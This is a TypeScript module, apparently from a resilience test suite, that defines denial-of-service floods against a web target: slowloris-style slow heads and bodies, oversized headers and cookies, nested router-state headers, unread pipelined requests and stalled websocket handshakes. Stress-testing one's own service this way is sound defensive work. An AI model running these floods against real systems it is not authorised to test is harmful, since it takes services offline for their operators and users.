import { pause } from "../report";
import { attacker } from "./attacker";
import type { Flood } from "./flood";
import { many } from "./shots";
import { range, Tally } from "./tally";
import type { Target } from "./target";

/** So many bare connections that send `first` and then, each second, a little more, for so long; what came first on each is told. */
async function slowly(target: Target, count: number, ms: number, first: string, more: string): Promise<Tally> {
  const one = attacker(target.url);
  const tally = new Tally();
  const sockets = range(count).map(() => {
    const socket = one.open(first);
    let received = "";
    socket.on("data", (chunk: Buffer) => {
      if (received.length < 1000) received += chunk.toString("latin1");
    });
    return { socket, status: () => Number(/^HTTP\/1\.1 (\d+)/.exec(received)?.[1] ?? 0) };
  });
  for (const deadline = Date.now() + ms; Date.now() < deadline; ) {
    await pause(1000);
    for (const { socket } of sockets) if (!socket.destroyed && socket.writable) socket.write(more);
  }
  for (const { socket, status } of sockets) {
    tally.add(status());
    socket.destroy();
  }
  return tally;
}

const longHeaders: Record<string, string>[] = [
  {},
  { cookie: "a=1; ".repeat(2900) },
  { accept: "a/b,".repeat(3000), "x-forwarded-for": "1.1.1.1, ".repeat(200) },
];

/** Connections and heads that hold what they take, by nobody. */
export const floodsOfConnections: readonly Flood[] = [
  {
    name: "router states of 8 kB",
    run: (target, size) => {
      const tree = encodeURIComponent(`${'["",{"children":'.repeat(90)}{}${"}]".repeat(90)}`);
      return many(target, 2000 * size, 50, () => ({ path: "/login", headers: { rsc: "1", "next-router-state-tree": tree } }));
    },
  },
  {
    name: "headers of 15 kB, cookies of 15 kB, addresses of 15 kB",
    run: (target, size) =>
      many(target, 3000 * size, 50, (n) => ({
        path: n % 3 === 0 ? `/login?${"a=1&".repeat(3700)}` : "/login",
        headers: longHeaders[n % 3] ?? {},
      })),
  },
  {
    name: "2,000 headers, and headers of 1 MB",
    run: (target, size) =>
      many(target, 1000 * size, 50, (n) => ({
        path: "/login",
        headers: n % 2 ? Object.fromEntries(range(2000).map((k) => [`x-${k}`, "1"])) : { cookie: "a".repeat(1_000_000) },
      })),
  },
  {
    name: "20,000 pipelined requests whose answers nobody reads",
    sharp: true,
    run: async (target, size) => {
      const one = attacker(target.url);
      const sockets = range(20).map(() => {
        const socket = one.open(
          "GET /api/openapi.json HTTP/1.1\r\nhost: a\r\n\r\nGET /login HTTP/1.1\r\nhost: a\r\n\r\n".repeat(500 * size),
        );
        socket.pause();
        return socket;
      });
      await pause(8000 * Math.max(size, 0.5));
      for (const socket of sockets) socket.destroy();
      return new Tally();
    },
  },
  {
    name: "1,000 slow heads",
    run: (target, size) => slowly(target, 1000 * size, 20_000 * size, "GET / HTTP/1.1\r\nhost: a\r\n", "x: 1\r\n"),
  },
  {
    name: "500 slow bodies",
    run: (target, size) =>
      slowly(
        target,
        500 * size,
        20_000 * size,
        "POST /api/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 500000\r\n\r\n{",
        " ".repeat(1000),
      ),
  },
  {
    name: "1,000 sockets that never say who they are",
    run: (target, size) =>
      slowly(
        target,
        1000 * size,
        10_000 * size,
        "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: a\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
        "",
      ),
  },
  {
    name: "3,000 polling handshakes that nobody goes on with",
    run: (target, size) => many(target, 3000 * size, 50, (n) => ({ path: `/socket.io/?EIO=4&transport=polling&t=${n}` })),
  },
];
